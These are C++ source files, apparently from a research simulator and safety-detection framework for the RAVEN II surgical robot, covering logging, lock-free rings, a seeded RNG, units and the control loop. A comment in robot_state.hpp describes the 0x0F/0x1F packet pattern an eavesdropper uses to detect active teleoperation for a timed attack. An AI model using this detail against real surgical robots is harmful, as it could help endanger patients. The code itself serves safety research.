  if (static_cast<int>(level) < log_level_storage().load(std::memory_order_relaxed)) return;

  char prefix[64];
  std::snprintf(prefix, sizeof(prefix), "[%12.6f t%02u %s] ", uptime_sec(),
                obs::thread_index(), level_name(level));
  std::string line;
  line.reserve(message.size() + sizeof(prefix) + 1);
  line += prefix;
  line += message;
  line += "\n";
  std::fputs(line.c_str(), stderr);

  // Bridge warnings and errors into the attached safety-event log so
  // post-incident analysis sees them interleaved with alarms/mitigations.
  if (level >= LogLevel::kWarn && level < LogLevel::kOff) {
    if (obs::EventLog* events = obs::attached_log_events()) {
      events->emit("log", std::nullopt,
                   {{"level", level_slug(level)}, {"message", message}});
    }
  }
}

}  // namespace rg::detail
