#include "common/log.hpp"

#include <cstdio>
#include <string>

namespace rg::detail {

std::atomic<int>& log_level_storage() noexcept {
  static std::atomic<int> level{static_cast<int>(LogLevel::kWarn)};
  return level;
}

namespace {
constexpr const char* level_name(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO ";
    case LogLevel::kWarn: return "WARN ";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF  ";
  }
  return "?????";
}
}  // namespace

void log_emit(LogLevel level, std::string_view message) {
  if (static_cast<int>(level) < log_level_storage().load(std::memory_order_relaxed)) return;
  std::string line;
  line.reserve(message.size() + 16);
  line += "[";
  line += level_name(level);
  line += "] ";
  line += message;
  line += "\n";
  std::fputs(line.c_str(), stderr);
}

}  // namespace rg::detail
