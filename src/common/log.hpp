// Minimal leveled logger.
//
// Logging is off the hot path by default (level kWarn); experiment
// harnesses raise verbosity explicitly.  No global mutable state beyond a
// single atomic level; output goes to stderr.
#pragma once

#include <atomic>
#include <sstream>
#include <string_view>

namespace rg {

enum class LogLevel : int { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3, kOff = 4 };

namespace detail {
std::atomic<int>& log_level_storage() noexcept;
void log_emit(LogLevel level, std::string_view message);
}  // namespace detail

/// Set the global log threshold.
inline void set_log_level(LogLevel level) noexcept {
  detail::log_level_storage().store(static_cast<int>(level), std::memory_order_relaxed);
}

/// Current global log threshold.
inline LogLevel log_level() noexcept {
  return static_cast<LogLevel>(detail::log_level_storage().load(std::memory_order_relaxed));
}

/// Stream-style log statement: RG_LOG(kInfo) << "x=" << x;
class LogLine {
 public:
  explicit LogLine(LogLevel level) : level_(level) {}
  LogLine(const LogLine&) = delete;
  LogLine& operator=(const LogLine&) = delete;
  ~LogLine() { detail::log_emit(level_, stream_.str()); }

  template <typename T>
  LogLine& operator<<(const T& value) {
    stream_ << value;
    return *this;
  }

 private:
  LogLevel level_;
  std::ostringstream stream_;
};

}  // namespace rg

#define RG_LOG_ENABLED(lvl) (static_cast<int>(lvl) >= static_cast<int>(::rg::log_level()))
#define RG_LOG(lvl)                                 \
  if (!RG_LOG_ENABLED(::rg::LogLevel::lvl)) {       \
  } else                                            \
    ::rg::LogLine(::rg::LogLevel::lvl)
