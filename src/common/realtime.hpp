// RG_REALTIME: the machine-checked real-time annotation.
//
// Functions marked RG_REALTIME are part of the 1 kHz tick/ingest/verdict
// path (lane kernels, batched dynamics, estimator predict/commit, shard
// rounds, board/DAC emit).  The marker is a compiler hint (hot) and, more
// importantly, a contract enforced by tools/rg_lint:
//
//   * the body may not allocate (new/malloc/make_unique/resize/...),
//   * may not lock (std::mutex, lock_guard, .lock(), ...),
//   * may not perform stream/printf I/O,
//   * may not throw,
//   * may not block (sleep*, wait*, recv/send, epoll_wait, ...),
//   * may not push_back/emplace_back into unreserved containers,
//   * and every in-tree function it calls must itself be RG_REALTIME.
//
// Deliberate exceptions carry a `// rg-lint: allow(<class>) -- reason`
// annotation on the same or preceding line.  See docs/static-analysis.md
// for the full contract and the allow-annotation grammar.
#pragma once

#if defined(__GNUC__) || defined(__clang__)
#define RG_REALTIME __attribute__((hot))
#else
#define RG_REALTIME
#endif
