// RG_REALTIME / RG_THREAD / RG_DETERMINISTIC: the machine-checked
// discipline annotations.
//
// Functions marked RG_REALTIME are part of the 1 kHz tick/ingest/verdict
// path (lane kernels, batched dynamics, estimator predict/commit, shard
// rounds, board/DAC emit).  The marker is a compiler hint (hot) and, more
// importantly, a contract enforced by tools/rg_lint:
//
//   * the body may not allocate (new/malloc/make_unique/resize/...),
//   * may not lock (std::mutex, lock_guard, .lock(), ...),
//   * may not perform stream/printf I/O,
//   * may not throw,
//   * may not block (sleep*, wait*, recv/send, epoll_wait, ...),
//   * may not push_back/emplace_back into unreserved containers,
//   * and every in-tree function it calls must itself be RG_REALTIME.
//
// RG_THREAD(role) pins a function to one of the gateway's threads:
//
//   pump     the ingest/publish thread (TeleopGateway::pump)
//   shard    a shard worker (ShardRunner::worker_loop and callees)
//   flusher  the StatePlane group-commit thread
//   admin    the AdminServer HTTP thread
//   any      callable from every thread (thread-safe or stateless)
//
// rg_lint enforces the role statically: a function pinned to one role
// may only call in-tree role-annotated functions of the same role or
// `any`.  Cross-role data handoff must go through the approved boundary
// types instead — SpscRing, std::atomic, or GatewaySnapshot publication
// (see docs/gateway.md "Threading model").
//
// RG_DETERMINISTIC marks the verdict/calibration digest paths whose
// outputs must be bit-identical at any worker x lane x shard x rx_batch
// count.  rg_lint bans nondeterminism classes by token inside the body:
// rand/random_device, clock reads (now(), clock_gettime, steady_clock),
// unordered-container iteration, pointer-keyed ordering, thread ids.
//
// Deliberate exceptions carry a `// rg-lint: allow(<class>) -- reason`
// annotation on the same or preceding line.  See docs/static-analysis.md
// for the full contracts and the allow-annotation grammar.
#pragma once

#if defined(__GNUC__) || defined(__clang__)
#define RG_REALTIME __attribute__((hot))
#else
#define RG_REALTIME
#endif

// Lint-only contracts: both expand to nothing for the compiler; the
// token scanner in tools/rg_lint gives them meaning.
#define RG_THREAD(role)
#define RG_DETERMINISTIC
