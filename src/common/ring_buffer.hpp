// Fixed-capacity ring buffer.
//
// Used for bounded logging on the hot path (USB packet capture, detector
// history) without heap allocation after construction.
#pragma once

#include <cstddef>
#include <stdexcept>
#include <vector>

namespace rg {

/// Overwriting ring buffer: when full, push() drops the oldest element.
template <typename T>
class RingBuffer {
 public:
  explicit RingBuffer(std::size_t capacity) : storage_(capacity) {
    if (capacity == 0) throw std::invalid_argument("RingBuffer capacity must be > 0");
  }

  /// Append, overwriting the oldest element if full.
  void push(T value) {
    storage_[head_] = std::move(value);
    head_ = (head_ + 1) % storage_.size();
    if (size_ < storage_.size()) {
      ++size_;
    } else {
      tail_ = (tail_ + 1) % storage_.size();
    }
  }

  [[nodiscard]] std::size_t size() const noexcept { return size_; }
  [[nodiscard]] std::size_t capacity() const noexcept { return storage_.size(); }
  [[nodiscard]] bool empty() const noexcept { return size_ == 0; }
  [[nodiscard]] bool full() const noexcept { return size_ == storage_.size(); }

  /// Element i counted from the oldest retained element (0 == oldest).
  [[nodiscard]] const T& at(std::size_t i) const {
    if (i >= size_) throw std::out_of_range("RingBuffer::at");
    return storage_[(tail_ + i) % storage_.size()];
  }

  /// Most recently pushed element.
  [[nodiscard]] const T& back() const {
    if (empty()) throw std::out_of_range("RingBuffer::back on empty buffer");
    return storage_[(head_ + storage_.size() - 1) % storage_.size()];
  }

  /// Oldest retained element.
  [[nodiscard]] const T& front() const {
    if (empty()) throw std::out_of_range("RingBuffer::front on empty buffer");
    return storage_[tail_];
  }

  void clear() noexcept {
    head_ = tail_ = size_ = 0;
  }

  /// Copy the retained elements, oldest first.
  [[nodiscard]] std::vector<T> snapshot() const {
    std::vector<T> out;
    out.reserve(size_);
    for (std::size_t i = 0; i < size_; ++i) out.push_back(at(i));
    return out;
  }

 private:
  std::vector<T> storage_;
  std::size_t head_ = 0;
  std::size_t tail_ = 0;
  std::size_t size_ = 0;
};

}  // namespace rg
