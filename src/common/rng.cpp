#include "common/rng.hpp"

#include <cmath>

namespace rg {

RG_REALTIME double Pcg32::sqrt_ratio(double s) noexcept {
  return std::sqrt(-2.0 * std::log(s) / s);
}

}  // namespace rg
