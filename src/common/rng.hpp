// Deterministic pseudo-random number generation.
//
// Every stochastic element in the simulation (sensor noise, operator
// tremor, attack parameters, trajectory waypoints) draws from a seeded
// Pcg32 so that experiments are reproducible bit-for-bit given a seed.
// PCG-XSH-RR 64/32 (O'Neill 2014), implemented from the public-domain
// reference algorithm.
#pragma once

#include <cstdint>
#include <limits>

#include "common/realtime.hpp"

namespace rg {

/// Minimal PCG32 engine satisfying UniformRandomBitGenerator.
class Pcg32 {
 public:
  using result_type = std::uint32_t;

  explicit Pcg32(std::uint64_t seed = 0x853c49e6748fea9bULL,
                 std::uint64_t stream = 0xda3e39cb94b95bdbULL) noexcept {
    state_ = 0U;
    inc_ = (stream << 1U) | 1U;
    (void)next();
    state_ += seed;
    (void)next();
  }

  static constexpr result_type min() noexcept { return 0; }
  static constexpr result_type max() noexcept {
    return std::numeric_limits<result_type>::max();
  }

  result_type operator()() noexcept { return next(); }

  /// Uniform double in [0, 1).
  RG_REALTIME double uniform() noexcept {
    return static_cast<double>(next()) * 0x1.0p-32;
  }

  /// Uniform double in [lo, hi).
  RG_REALTIME double uniform(double lo, double hi) noexcept {
    return lo + (hi - lo) * uniform();
  }

  /// Uniform integer in [lo, hi] (inclusive).  Uses rejection-free Lemire
  /// style reduction; tiny bias (<2^-32) is irrelevant for simulation.
  RG_REALTIME std::uint32_t uniform_int(std::uint32_t lo, std::uint32_t hi) noexcept {
    const std::uint64_t range = static_cast<std::uint64_t>(hi) - lo + 1;
    return lo + static_cast<std::uint32_t>(
                    (static_cast<std::uint64_t>(next()) * range) >> 32U);
  }

  /// Standard normal deviate via Marsaglia polar method.
  RG_REALTIME double normal() noexcept {
    if (has_spare_) {
      has_spare_ = false;
      return spare_;
    }
    double u = 0.0;
    double v = 0.0;
    double s = 0.0;
    do {
      u = uniform(-1.0, 1.0);
      v = uniform(-1.0, 1.0);
      s = u * u + v * v;
    } while (s >= 1.0 || s == 0.0);
    const double factor = sqrt_ratio(s);
    spare_ = v * factor;
    has_spare_ = true;
    return u * factor;
  }

  /// Normal deviate with the given mean and standard deviation.
  RG_REALTIME double normal(double mean, double stddev) noexcept {
    return mean + stddev * normal();
  }

  /// Derive an independent child generator (stable stream splitting so
  /// adding a consumer does not perturb other consumers' sequences).
  [[nodiscard]] Pcg32 split(std::uint64_t salt) noexcept {
    return Pcg32{next64() ^ (salt * 0x9e3779b97f4a7c15ULL), salt};
  }

 private:
  RG_REALTIME result_type next() noexcept {
    const std::uint64_t old = state_;
    state_ = old * 6364136223846793005ULL + inc_;
    const auto xorshifted =
        static_cast<std::uint32_t>(((old >> 18U) ^ old) >> 27U);
    const auto rot = static_cast<std::uint32_t>(old >> 59U);
    return (xorshifted >> rot) | (xorshifted << ((32U - rot) & 31U));
  }

  RG_REALTIME std::uint64_t next64() noexcept {
    return (static_cast<std::uint64_t>(next()) << 32U) | next();
  }

  RG_REALTIME static double sqrt_ratio(double s) noexcept;

  std::uint64_t state_ = 0;
  std::uint64_t inc_ = 0;
  bool has_spare_ = false;
  double spare_ = 0.0;
};

}  // namespace rg
