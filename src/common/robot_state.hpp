// The RAVEN II operational state machine states (paper Fig. 1(c)).
//
// The state code is shared vocabulary between the control software (which
// runs the state machine), the USB wire format (Byte 0 of every command
// packet carries it to the PLC), and the attack analysis (which recovers
// it from eavesdropped packets) — hence it lives in common/.
#pragma once

#include <cstdint>
#include <optional>
#include <string_view>

#include "common/realtime.hpp"

namespace rg {

enum class RobotState : std::uint8_t {
  kEStop = 0,
  kInit = 1,      // initialization / homing
  kPedalUp = 2,   // ready, brakes engaged
  kPedalDown = 3  // teleoperation active, brakes released
};

constexpr std::string_view to_string(RobotState s) noexcept {
  switch (s) {
    case RobotState::kEStop: return "E-STOP";
    case RobotState::kInit: return "Init";
    case RobotState::kPedalUp: return "Pedal Up";
    case RobotState::kPedalDown: return "Pedal Down";
  }
  return "unknown";
}

/// On-wire nibble for each state, chosen (as on the real robot) so that
/// "Pedal Down" encodes as 0x0F — with the watchdog bit (bit 4) toggling,
/// an eavesdropper sees Byte 0 alternate 0x0F / 0x1F, exactly the pattern
/// the paper's offline analysis keys on.
RG_REALTIME constexpr std::uint8_t wire_code(RobotState s) noexcept {
  switch (s) {
    case RobotState::kEStop: return 0x01;
    case RobotState::kInit: return 0x03;
    case RobotState::kPedalUp: return 0x07;
    case RobotState::kPedalDown: return 0x0F;
  }
  return 0x00;
}

/// Inverse of wire_code; nullopt for an unknown code.
RG_REALTIME constexpr std::optional<RobotState> state_from_wire_code(std::uint8_t code) noexcept {
  switch (code) {
    case 0x01: return RobotState::kEStop;
    case 0x03: return RobotState::kInit;
    case 0x07: return RobotState::kPedalUp;
    case 0x0F: return RobotState::kPedalDown;
    default: return std::nullopt;
  }
}

}  // namespace rg
