// Fixed-capacity lock-free single-producer/single-consumer ring.
//
// The gateway's pump→shard handoff: exactly one thread pushes (the pump
// classifying datagrams) and exactly one thread pops (the shard worker
// draining its mailbox feed), so the ring needs no locks at all — one
// release store per side, plus a cached copy of the opposite index so
// the common case touches a single shared cache line, not two.
//
// Contracts:
//   * capacity is fixed at construction; try_push never allocates and
//     never blocks — a full ring returns false (the caller counts the
//     backpressure drop),
//   * push/pop are RG_REALTIME: no alloc, no lock, no IO, no exceptions
//     (tools/rg_lint enforces this),
//   * head/tail live on their own cache lines so the producer and the
//     consumer never false-share,
//   * wraparound, the full/empty boundary, and a capacity-1 ring are all
//     exercised by tests/test_spsc_ring.cpp, including a two-thread TSan
//     hammer.
//
// Anything beyond one producer or one consumer is undefined; the gateway
// enforces it structurally (one pump thread, one worker per shard).
#pragma once

#include <atomic>
#include <cstddef>
#include <stdexcept>
#include <utility>
#include <vector>

#include "common/realtime.hpp"

namespace rg {

/// Destructive-interference padding granularity.  Fixed at 64 rather
/// than std::hardware_destructive_interference_size, which GCC warns is
/// ABI-unstable across -mtune settings (-Werror=interference-size); 64
/// is the line size on every target this tree builds for.
inline constexpr std::size_t kCacheLineSize = 64;

template <typename T>
class SpscRing {
 public:
  /// A ring that holds up to `capacity` elements (>= 1).  One slot is
  /// sacrificed to distinguish full from empty, so storage is capacity+1.
  explicit SpscRing(std::size_t capacity) : slots_(capacity + 1), storage_(capacity + 1) {
    if (capacity == 0) throw std::invalid_argument("SpscRing capacity must be > 0");
  }

  SpscRing(const SpscRing&) = delete;
  SpscRing& operator=(const SpscRing&) = delete;

  /// Producer side.  False when the ring is full — nothing is consumed
  /// from `value` in that case.
  [[nodiscard]] RG_REALTIME RG_THREAD(any) bool try_push(const T& value) noexcept {
    const std::size_t tail = tail_.pos.load(std::memory_order_relaxed);
    const std::size_t next = advance(tail);
    if (next == tail_.cached_other) {
      tail_.cached_other = head_.pos.load(std::memory_order_acquire);
      if (next == tail_.cached_other) return false;  // full
    }
    storage_[tail] = value;
    tail_.pos.store(next, std::memory_order_release);
    return true;
  }

  /// Producer side, moving overload.  `value` is only moved from on
  /// success.
  [[nodiscard]] RG_REALTIME RG_THREAD(any) bool try_push(T&& value) noexcept {
    const std::size_t tail = tail_.pos.load(std::memory_order_relaxed);
    const std::size_t next = advance(tail);
    if (next == tail_.cached_other) {
      tail_.cached_other = head_.pos.load(std::memory_order_acquire);
      if (next == tail_.cached_other) return false;  // full
    }
    storage_[tail] = std::move(value);
    tail_.pos.store(next, std::memory_order_release);
    return true;
  }

  /// Consumer side.  False when the ring is empty — `out` is untouched.
  [[nodiscard]] RG_REALTIME RG_THREAD(any) bool try_pop(T& out) noexcept {
    const std::size_t head = head_.pos.load(std::memory_order_relaxed);
    if (head == head_.cached_other) {
      head_.cached_other = tail_.pos.load(std::memory_order_acquire);
      if (head == head_.cached_other) return false;  // empty
    }
    out = std::move(storage_[head]);
    head_.pos.store(advance(head), std::memory_order_release);
    return true;
  }

  /// Consumer side: pop up to `max` elements into `out`.  Returns the
  /// number popped.  One acquire load covers the whole run.
  RG_REALTIME RG_THREAD(any) std::size_t pop_batch(T* out, std::size_t max) noexcept {
    std::size_t head = head_.pos.load(std::memory_order_relaxed);
    const std::size_t tail = tail_.pos.load(std::memory_order_acquire);
    head_.cached_other = tail;
    std::size_t popped = 0;
    while (popped < max && head != tail) {
      out[popped++] = std::move(storage_[head]);
      head = advance(head);
    }
    if (popped != 0) head_.pos.store(head, std::memory_order_release);
    return popped;
  }

  /// True when the ring holds no elements at this instant.  Safe from
  /// either side (and, approximately, from observers).
  [[nodiscard]] RG_REALTIME RG_THREAD(any) bool empty() const noexcept {
    return head_.pos.load(std::memory_order_acquire) ==
           tail_.pos.load(std::memory_order_acquire);
  }

  /// Element count at this instant — exact from the producer or consumer
  /// thread, a consistent approximation from anywhere else.
  [[nodiscard]] RG_REALTIME RG_THREAD(any) std::size_t size_approx() const noexcept {
    const std::size_t head = head_.pos.load(std::memory_order_acquire);
    const std::size_t tail = tail_.pos.load(std::memory_order_acquire);
    return tail >= head ? tail - head : slots_ - (head - tail);
  }

  [[nodiscard]] RG_THREAD(any) std::size_t capacity() const noexcept { return slots_ - 1; }

 private:
  [[nodiscard]] RG_REALTIME RG_THREAD(any) std::size_t advance(std::size_t i) const noexcept {
    ++i;
    return i == slots_ ? 0 : i;
  }

  /// One side's index plus its cached copy of the opposite index (so the
  /// fast path re-reads the shared line only when it must), padded to a
  /// cache line to keep producer and consumer from false-sharing.
  struct alignas(kCacheLineSize) Side {
    std::atomic<std::size_t> pos{0};
    std::size_t cached_other = 0;
  };

  std::size_t slots_;
  std::vector<T> storage_;
  Side head_;  ///< consumer index (+ cached tail)
  Side tail_;  ///< producer index (+ cached head)
};

}  // namespace rg
