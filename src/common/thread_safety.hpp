// Clang thread-safety-analysis annotations (Contract 7 in
// docs/static-analysis.md).
//
// The RG_* macros below expand to clang's capability attributes when the
// analysis is available (`-Wthread-safety`, promoted to an error by
// scripts/check_thread_safety.sh) and to nothing elsewhere, so the
// reference g++ build is unaffected.  std::mutex itself carries no
// capability annotations, so lock-guarded state uses the annotated
// rg::Mutex wrapper plus the rg::MutexLock scoped guard; mutexes paired
// with a std::condition_variable stay std::mutex (the CV wait API
// requires std::unique_lock<std::mutex>) and sit outside the analysis.
//
//   rg::Mutex mutex_;
//   int table_ RG_GUARDED_BY(mutex_);
//   void touch() { MutexLock lock(mutex_); ++table_; }     // OK
//   void race()  { ++table_; }                             // -Werror
//   void locked_helper() RG_REQUIRES(mutex_);              // caller holds it
#pragma once

#include <mutex>

#if defined(__clang__)
#define RG_TSA(x) __attribute__((x))
#else
#define RG_TSA(x)
#endif

#define RG_CAPABILITY(x) RG_TSA(capability(x))
#define RG_SCOPED_CAPABILITY RG_TSA(scoped_lockable)
#define RG_GUARDED_BY(x) RG_TSA(guarded_by(x))
#define RG_PT_GUARDED_BY(x) RG_TSA(pt_guarded_by(x))
#define RG_REQUIRES(...) RG_TSA(requires_capability(__VA_ARGS__))
#define RG_ACQUIRE(...) RG_TSA(acquire_capability(__VA_ARGS__))
#define RG_RELEASE(...) RG_TSA(release_capability(__VA_ARGS__))
#define RG_TRY_ACQUIRE(...) RG_TSA(try_acquire_capability(__VA_ARGS__))
#define RG_EXCLUDES(...) RG_TSA(locks_excluded(__VA_ARGS__))
#define RG_RETURN_CAPABILITY(x) RG_TSA(lock_returned(x))
#define RG_NO_THREAD_SAFETY_ANALYSIS RG_TSA(no_thread_safety_analysis)

namespace rg {

/// std::mutex with the "mutex" capability, so RG_GUARDED_BY fields and
/// RG_REQUIRES contracts type-check under -Wthread-safety.
class RG_CAPABILITY("mutex") Mutex {
 public:
  Mutex() = default;
  Mutex(const Mutex&) = delete;
  Mutex& operator=(const Mutex&) = delete;

  void lock() RG_ACQUIRE() { impl_.lock(); }
  void unlock() RG_RELEASE() { impl_.unlock(); }
  [[nodiscard]] bool try_lock() RG_TRY_ACQUIRE(true) { return impl_.try_lock(); }

 private:
  std::mutex impl_;
};

/// RAII guard for rg::Mutex (std::lock_guard is not scope-annotated).
class RG_SCOPED_CAPABILITY MutexLock {
 public:
  explicit MutexLock(Mutex& mutex) RG_ACQUIRE(mutex) : mutex_(mutex) { mutex_.lock(); }
  ~MutexLock() RG_RELEASE() { mutex_.unlock(); }
  MutexLock(const MutexLock&) = delete;
  MutexLock& operator=(const MutexLock&) = delete;

 private:
  Mutex& mutex_;
};

}  // namespace rg
