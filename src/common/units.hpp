// Unit conventions and boundary strong types.
//
// Internal physics math uses plain `double` in SI units (rad, m, s, N·m, A)
// — documented here once so every module agrees.  At *domain boundaries*
// (hardware registers, encoder counts, DAC words) we use strong integer
// types so a raw DAC word can never be mistaken for a torque.
#pragma once

#include <compare>
#include <cstdint>
#include <numbers>

namespace rg {

// ---------------------------------------------------------------------------
// Conversion constants (SI internal convention).
// ---------------------------------------------------------------------------
inline constexpr double kPi = std::numbers::pi;
inline constexpr double kDegToRad = kPi / 180.0;
inline constexpr double kRadToDeg = 180.0 / kPi;
inline constexpr double kMmToM = 1.0e-3;
inline constexpr double kMToMm = 1.0e3;
/// Motor catalogue speed unit: RPM -> rad/s.
inline constexpr double kRpmToRadPerSec = 2.0 * kPi / 60.0;

// ---------------------------------------------------------------------------
// Boundary strong types.
// ---------------------------------------------------------------------------

/// A signed 16-bit DAC word as written to the USB interface board.
struct DacValue {
  std::int16_t raw = 0;
  friend constexpr auto operator<=>(DacValue, DacValue) = default;
};

/// A raw quadrature encoder count as read from a motor controller.
struct EncoderCount {
  std::int32_t raw = 0;
  friend constexpr auto operator<=>(EncoderCount, EncoderCount) = default;
};

/// Index of a motor/joint channel on one arm (0 = shoulder, 1 = elbow,
/// 2 = insertion; channels 3..6 are wrist/instrument, modelled only as
/// pass-through).
struct ChannelIndex {
  std::uint8_t raw = 0;
  friend constexpr auto operator<=>(ChannelIndex, ChannelIndex) = default;
};

/// Number of fully-modelled degrees of freedom (the paper's reduced model:
/// shoulder rotation, elbow rotation, tool insertion).
inline constexpr std::size_t kNumModeledJoints = 3;

/// Total channels carried in a USB packet (one RAVEN arm has 8 board
/// channels; 7 DOF + spare).
inline constexpr std::size_t kNumBoardChannels = 8;

}  // namespace rg
