#include "control/control_software.hpp"

#include <cmath>

#include "obs/span.hpp"

namespace rg {

namespace {
/// Smoothstep used for the homing ramp (C1-continuous).
RG_REALTIME double smoothstep(double u) noexcept {
  if (u <= 0.0) return 0.0;
  if (u >= 1.0) return 1.0;
  return u * u * (3.0 - 2.0 * u);
}
}  // namespace

ControlSoftware::ControlSoftware(const ControlConfig& config)
    : config_(config),
      kin_(config.rcm_origin, config.limits),
      coupling_(config.transmission),
      safety_(config.safety),
      sm_(config.homing_ticks),
      pid_{PidController{config.gains[0], kControlPeriodSec},
           PidController{config.gains[1], kControlPeriodSec},
           PidController{config.gains[2], kControlPeriodSec}},
      channels_{MotorChannel{config.channel}, MotorChannel{config.channel},
                MotorChannel{config.channel}},
      mvel_est_{Differentiator{kControlPeriodSec, config.velocity_filter_alpha},
                Differentiator{kControlPeriodSec, config.velocity_filter_alpha},
                Differentiator{kControlPeriodSec, config.velocity_filter_alpha}},
      wvel_est_{Differentiator{kControlPeriodSec, config.velocity_filter_alpha},
                Differentiator{kControlPeriodSec, config.velocity_filter_alpha},
                Differentiator{kControlPeriodSec, config.velocity_filter_alpha}} {}

RG_REALTIME void ControlSoftware::press_start() {
  plc_estop_reports_ = 0;
  safety_fault_ = false;
  first_violation_.reset();
  watchdog_bit_ = false;
  homing_anchor_valid_ = false;
  mpos_desired_valid_ = false;
  pos_desired_valid_ = false;
  ori_desired_valid_ = false;
  for (auto& pid : pid_) pid.reset();
  sm_.press_start();
}

RG_REALTIME void ControlSoftware::press_estop() noexcept { sm_.trigger_estop(); }

RG_REALTIME void ControlSoftware::process_feedback(std::span<const std::uint8_t> feedback_bytes) noexcept {
  auto decoded = decode_feedback(feedback_bytes, /*verify_checksum=*/true);
  if (!decoded.ok()) return;  // hold last measurement on a corrupt read
  const FeedbackPacket& pkt = decoded.value();
  for (std::size_t i = 0; i < 3; ++i) {
    mpos_meas_[i] = channels_[i].angle_from_counts(pkt.encoders[i]);
    mvel_[i] = mvel_est_[i].update(mpos_meas_[i]);
    wrist_meas_[i] = channels_[i].angle_from_counts(pkt.encoders[3 + i]);
    wrist_vel_[i] = wvel_est_[i].update(wrist_meas_[i]);
  }
  have_feedback_ = true;

  // Hardware/software state cross-check: a PLC persistently reporting
  // E-STOP while the software is driving means the two sides desynced.
  if (pkt.state == RobotState::kEStop && sm_.state() != RobotState::kEStop) {
    if (++plc_estop_reports_ >= config_.plc_desync_limit && !safety_fault_) {
      latch_fault(SafetyViolation{SafetyViolation::Kind::kWorkspace, 0, 0.0, 0.0});
    }
  } else {
    plc_estop_reports_ = 0;
  }
}

RG_REALTIME void ControlSoftware::process_itp(std::span<const std::uint8_t> itp_bytes) noexcept {
  auto decoded = decode_itp(itp_bytes, /*verify_checksum=*/true);
  if (!decoded.ok()) {
    debug_.itp_dropped = true;
    return;
  }
  const ItpPacket& pkt = decoded.value();

  // Pedal edges drive the state machine.
  if (pkt.pedal_down != last_pedal_) {
    sm_.set_pedal(pkt.pedal_down);
    last_pedal_ = pkt.pedal_down;
    if (sm_.state() == RobotState::kPedalDown) {
      // Anchor the desired pose at the arm's current position so the
      // first increment moves relative to where the tool actually is.
      const JointVector jpos = coupling_.motor_to_joint(mpos_meas_);
      pos_desired_ = kin_.forward(jpos);
      pos_desired_valid_ = true;
      ori_desired_ = wrist_meas_;
      ori_desired_valid_ = true;
    }
  }

  if (sm_.state() != RobotState::kPedalDown || !pos_desired_valid_) return;

  // Existing RAVEN check: reject absurd increments (part of the baseline).
  if (auto violation = safety_.check_increment(pkt.pos_increment)) {
    latch_fault(*violation);
    return;
  }
  pos_desired_ += pkt.pos_increment;
  if (ori_desired_valid_) ori_desired_ += pkt.ori_increment;
}

RG_REALTIME void ControlSoftware::latch_fault(const SafetyViolation& violation) noexcept {
  if (!first_violation_) first_violation_ = violation;
  safety_fault_ = true;
  sm_.trigger_estop();
  debug_.safety_fault = true;
  debug_.violation = violation;
}

RG_REALTIME CommandBytes ControlSoftware::tick(std::optional<std::span<const std::uint8_t>> itp_bytes,
                                   std::span<const std::uint8_t> feedback_bytes) {
  RG_SPAN("control.tick");
  debug_ = ControlDebug{};

  process_feedback(feedback_bytes);
  if (itp_bytes) process_itp(*itp_bytes);
  sm_.tick();

  const JointVector jpos_meas = coupling_.motor_to_joint(mpos_meas_);
  debug_.mpos_measured = mpos_meas_;
  debug_.mvel_estimate = mvel_;
  debug_.jpos_measured = jpos_meas;
  debug_.ee_measured = kin_.forward(jpos_meas);

  // --- Desired motor positions by state -----------------------------------
  bool drive_motors = false;
  if (!safety_fault_ && have_feedback_) {
    switch (sm_.state()) {
      case RobotState::kInit: {
        if (!homing_anchor_valid_) {
          homing_start_ = mpos_meas_;
          homing_anchor_valid_ = true;
        }
        const MotorVector home = coupling_.joint_to_motor(config_.limits.midpoint());
        const double s = smoothstep(sm_.homing_progress());
        mpos_desired_ = homing_start_ + s * (home - homing_start_);
        mpos_desired_valid_ = true;
        drive_motors = true;
        break;
      }
      case RobotState::kPedalDown: {
        if (pos_desired_valid_) {
          auto ik = kin_.inverse(pos_desired_);
          // Verify the solution by substitution: FK(IK(p)) must land back
          // on p.  A drifting math library (Table I) breaks this residual
          // long before anything else looks wrong.
          const bool ik_consistent =
              ik.ok() &&
              distance(kin_.forward(ik.value()), pos_desired_) <= config_.ik_verify_tolerance;
          if (!ik_consistent) {
            // "IK-fail": the unwanted halt state the paper's math-library
            // attacks provoke.
            debug_.ik_failed = true;
            latch_fault(SafetyViolation{SafetyViolation::Kind::kWorkspace, 0, 0.0, 0.0});
          } else {
            const JointVector jpos_d = ik.value();
            if (auto violation = safety_.check_joints(jpos_d)) {
              latch_fault(*violation);
            } else {
              debug_.jpos_desired = jpos_d;
              debug_.ee_desired = pos_desired_;
              mpos_desired_ = coupling_.joint_to_motor(jpos_d);
              mpos_desired_valid_ = true;
              drive_motors = true;
            }
          }
        }
        break;
      }
      case RobotState::kPedalUp: {
        // The PLC has powered the drives off and the brakes hold the arm:
        // the servo disengages (commanding torque into dead drives would
        // only wind up the PID against a coasting arm).  Desired tracks
        // measured so re-engagement is seamless.
        mpos_desired_ = mpos_meas_;
        mpos_desired_valid_ = true;
        for (auto& pid : pid_) pid.reset();
        drive_motors = false;
        break;
      }
      case RobotState::kEStop:
        break;
    }
  }

  // --- PID -> torque -> DAC ------------------------------------------------
  std::array<std::int16_t, kNumBoardChannels> dac{};
  if (drive_motors && !safety_fault_ && mpos_desired_valid_) {
    debug_.mpos_desired = mpos_desired_;
    for (std::size_t i = 0; i < 3; ++i) {
      const double torque = pid_[i].update(mpos_desired_[i] - mpos_meas_[i], mvel_[i]);
      const double current = torque / config_.motors[i].torque_constant;
      dac[i] = channels_[i].dac_from_current(current);
      debug_.torque_command[i] = torque;
    }
  }

  // --- Wrist servo (channels 3-5): orientation pass-through ---------------
  if (!safety_fault_ && sm_.state() == RobotState::kPedalDown && ori_desired_valid_) {
    for (std::size_t i = 0; i < 3; ++i) {
      const double torque = config_.wrist_kp * (ori_desired_[i] - wrist_meas_[i]) -
                            config_.wrist_kd * wrist_vel_[i];
      dac[3 + i] = channels_[i].dac_from_current(torque / config_.wrist_torque_constant);
    }
  }

  // --- The RAVEN software safety check (the baseline detector) ------------
  if (!safety_fault_) {
    if (auto violation = safety_.check_dac(dac)) {
      latch_fault(*violation);
    }
  }
  if (safety_fault_) {
    dac.fill(0);
  } else {
    // Healthy cycle: toggle the "I'm alive" watchdog square wave.
    watchdog_bit_ = !watchdog_bit_;
  }
  debug_.dac_command = {dac[0], dac[1], dac[2]};
  debug_.safety_fault = safety_fault_;
  if (safety_fault_ && first_violation_) debug_.violation = first_violation_;

